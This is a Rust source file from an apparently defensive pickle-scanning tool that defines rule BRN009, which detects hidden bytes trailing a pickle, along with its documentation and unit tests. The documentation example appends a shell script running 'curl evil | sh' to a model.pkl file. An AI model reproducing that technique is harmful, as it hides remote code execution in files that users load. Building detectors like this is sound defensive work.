//! BRN009: Bytes that are not a pickle follow the last complete pickle.

use crate::finding::{Finding, Severity, Verdict};
use crate::rules::{Family, RuleMeta};

/// Rule metadata and user docs.
pub const META: RuleMeta = RuleMeta {
    code: "BRN009",
    name: "pickle-trailing-data",
    summary: "Bytes that are not a pickle follow the last complete pickle.",
    severity: Severity::Low,
    family: Family::Pickle,
    cwe: &[502],
    mappings: super::super::DESERIALIZATION_MAPPINGS,
    docs: r##"
## What it does
Reports bytes after a complete pickle that do not form another pickle (brine tries:
a second pickle after the first is analysed like the first).

## Why is this bad?
Appended data is a classic place to hide a second payload or a polyglot (a file that
is a pickle to one reader and something else to another).

## Example
```python
import pickle
data = pickle.dumps({"w": [1.0]}, protocol=2)
open("model.pkl", "wb").write(data + b"#!/bin/sh\ncurl evil | sh\n")
```

## Use instead
Keep one artifact per file, in a format with a declared length (safetensors).

## References
- [CWE-502: Deserialization of Untrusted Data](https://cwe.mitre.org/data/definitions/502.html)
- [Python `pickle` documentation, security warning](https://docs.python.org/3/library/pickle.html)
"##,
    fix: None,
};

/// The finding for trailing bytes starting at `offset`.
#[must_use]
pub fn finding(offset: u64, why: &str) -> Finding {
    Finding::new(
        META.code,
        META.severity,
        Verdict::Suspicious,
        format!("bytes after the last complete pickle are not a pickle ({why})"),
    )
    .at_offset(offset)
    .explained(format!(
        "# pickle.load stops before byte {offset}; what follows is hidden data"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pickle::testasm::{Asm, codes, scan};

    #[test]
    fn text_after_the_pickle_is_trailing_data() {
        let bytes = Asm::new().proto(2).op(b'N').stop().raw(b"hello\n").finish();
        let report = scan(&bytes);
        assert_eq!(codes(&report), ["BRN009"]);
        assert_eq!(report.verdict(), Verdict::Suspicious);
        assert_eq!(report.pickles, 1);
    }

    #[test]
    fn a_second_pickle_is_not_trailing_data() {
        let bytes = Asm::new()
            .proto(2)
            .op(b'N')
            .stop()
            .proto(2)
            .op(b'N')
            .stop()
            .finish();
        let report = scan(&bytes);
        assert!(codes(&report).is_empty());
        assert_eq!(report.pickles, 2);
    }
}
